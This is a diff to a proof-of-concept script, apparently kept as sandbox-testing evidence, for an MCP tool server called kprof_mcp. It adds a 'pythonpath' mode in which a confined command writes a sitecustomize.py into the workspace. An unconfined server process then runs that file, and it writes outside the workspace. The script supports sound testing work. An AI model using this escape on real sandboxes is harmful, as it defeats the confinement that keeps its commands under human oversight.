@@ -9,7 +9,9 @@ Python process started from that venv afterwards runs it at start-up, the sandbo
 (``python -P -m kprof_mcp.sandbox``, unconfined, the server's user) first. The payload there writes a file
 outside the workspace.
 
-Usage (repository root): .venv/bin/python docs/evidence/sandbox/probe10/repro_selfws.py [pth|source]
+Usage (repository root): .venv/bin/python docs/evidence/sandbox/probe10/repro_selfws.py [pth|source|pythonpath]
+(pythonpath: no venv in the workspace; the server's PYTHONPATH names the workspace's src/, where the command
+writes a sitecustomize.py)
 Prints SUCCEEDED (a file outside written by a process of the server's that is not confined) or BLOCKED.
 A fresh copy of kprof_mcp (the checkout's HEAD) and a fresh venv under /tmp; nothing of the checkout changed.
 """
@@ -43,7 +45,11 @@ try:
     print("control: wrote outside directly (NOT confined?)")
 except OSError as e:
     print("control: outside write refused:", e)
-if {HOW!r} == "pth":
+if {HOW!r} == "pythonpath":
+    target = os.path.join(ws, "src", "sitecustomize.py")
+    with open(target, "w") as f:
+        f.write(payload.replace("import os, sys; ", "import os, sys\\n") + "\\n")
+elif {HOW!r} == "pth":
     target = os.path.join(ws, ".venv", {SITE!r}, "zz_kp10.pth")
     with open(target, "w") as f:
         f.write(payload + "\\n")
@@ -71,6 +77,7 @@ def setup() -> None:
     (WS / ".venv" / SITE / "_kp10_path.pth").write_text(f"{WS}\n{REPO / '.venv' / SITE}\n")
     (WS / "kp10" / "selfmod.py").write_text(ATTACK)
     (WS / "kp10" / "hello.py").write_text("print('hello')\n")
+    (WS / "src").mkdir()  # the project's own import path (PYTHONPATH=src in the server's environment)
 
 
 async def main() -> str:
@@ -80,8 +87,13 @@ async def main() -> str:
         "PATH": os.environ["PATH"],
         "KPROF_LOCK_DIR": str(BASE / "locks"),
     }
+    if (
+        HOW == "pythonpath"
+    ):  # kprof from the checkout's venv; the operator's PYTHONPATH names the project's src/
+        env["PYTHONPATH"] = f"{WS / 'src'}:{WS}"
+    py = REPO / ".venv" / "bin" / "python" if HOW == "pythonpath" else WS / ".venv" / "bin" / "python"
     params = StdioServerParameters(
-        command=str(WS / ".venv" / "bin" / "python"),
+        command=str(py),
         args=["-m", "kprof_mcp", "--workspace", str(WS), "--allow-commands"],
         env=env,
         cwd=str(WS),
